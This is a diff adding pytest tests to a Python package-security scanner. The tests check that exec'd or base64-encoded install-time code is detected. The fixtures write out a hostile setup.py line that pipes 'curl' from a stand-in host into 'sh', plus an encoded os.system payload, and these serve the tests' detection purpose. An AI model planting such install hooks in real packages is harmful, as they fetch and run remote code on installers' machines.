@@ -5,8 +5,10 @@ from __future__ import annotations
 import base64
 import zlib
 
+import pytest
 from rulekit import ids, py, run
 
+from pipvet.analysis.context import FileContext, PackageContext
 from pipvet.analysis.rules import ALL_RULES
 from pipvet.analysis.rules.execution import RULES
 from pipvet.models import Severity, Stage
@@ -234,3 +236,59 @@ def test_an_alphabet_reversed_from_the_string_module_is_a_cipher() -> None:
         "exec(''.join([r[a.index(c)] if c in r else c for c in 'kirmg(1)']))\n"
     )
     assert "PV-EXE-001" in ids(run(RULES, py(source)))
+
+
+def test_source_written_in_a_string_is_read_in_place_where_it_runs_early() -> None:
+    """``exec("...")`` hides its calls from every rule that reads calls; at install and import
+    time the string is read like code, and what it does is reported at the exec line."""
+    setup = py(
+        "import builtins\nfrom setuptools import setup\n"
+        "builtins.exec(\"import os\\nos.system('curl -s http://x.invalid/a | sh')\\n\")\n"
+        "setup(name='demo')\n",
+        path="demo-1.0/setup.py",
+        stage=Stage.INSTALL,
+    )
+    found = [f for f in run(RULES, setup) if f.rule == "PV-DL-003"]
+    assert [f.severity for f in found] == [Severity.CRITICAL]
+    assert found[0].line == 3
+    assert found[0].message.startswith("In the code that line 3 runs from a string:")
+    assert (found[0].evidence or "").startswith("line 2: ")
+
+
+def test_harmless_or_unknown_strings_and_run_time_exec_add_nothing() -> None:
+    six_style = py(
+        'exec("def reraise(tp, value, tb=None):\\n    raise tp(value)\\n")\n', path="acme/_compat.py"
+    )
+    assert run(RULES, six_style) == []
+    version = py("exec(open('acme/version.py').read())\n", path="demo-1.0/setup.py", stage=Stage.INSTALL)
+    assert run(RULES, version) == []
+    later = py(
+        "def run():\n    exec(\"import os\\nos.system('curl -s http://x.invalid/a | sh')\\n\")\n",
+        path="acme/tools.py",
+        stage=Stage.RUNTIME,
+    )
+    assert "PV-DL-003" not in ids(run(RULES, later))
+
+
+def test_each_file_is_spliced_once_however_many_rules_ask(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Both peeling rules ask for the spliced file, and the rules run on it include them: the
+    work is done once per file, never re-entered while it runs."""
+    from pipvet.analysis.rules import execution
+
+    calls: list[str] = []
+    real = execution._splice_and_check
+
+    def counting(file: FileContext, package: PackageContext) -> object:
+        calls.append(file.path)
+        return real(file, package)
+
+    monkeypatch.setattr(execution, "_splice_and_check", counting)
+    payload = base64.b64encode(b"import os\nos.system('id')\n").decode()
+    source = (
+        "import base64\n"
+        f"exec(base64.b64decode('{payload}'))\n"
+        "exec(\"import os\\nos.system('curl -s http://x.invalid/a | sh')\\n\")\n"
+    )
+    findings = run(ALL_RULES, py(source, path="demo-1.0/setup.py", stage=Stage.INSTALL))
+    assert "PV-DL-003" in ids(findings)
+    assert calls == ["demo-1.0/setup.py"]
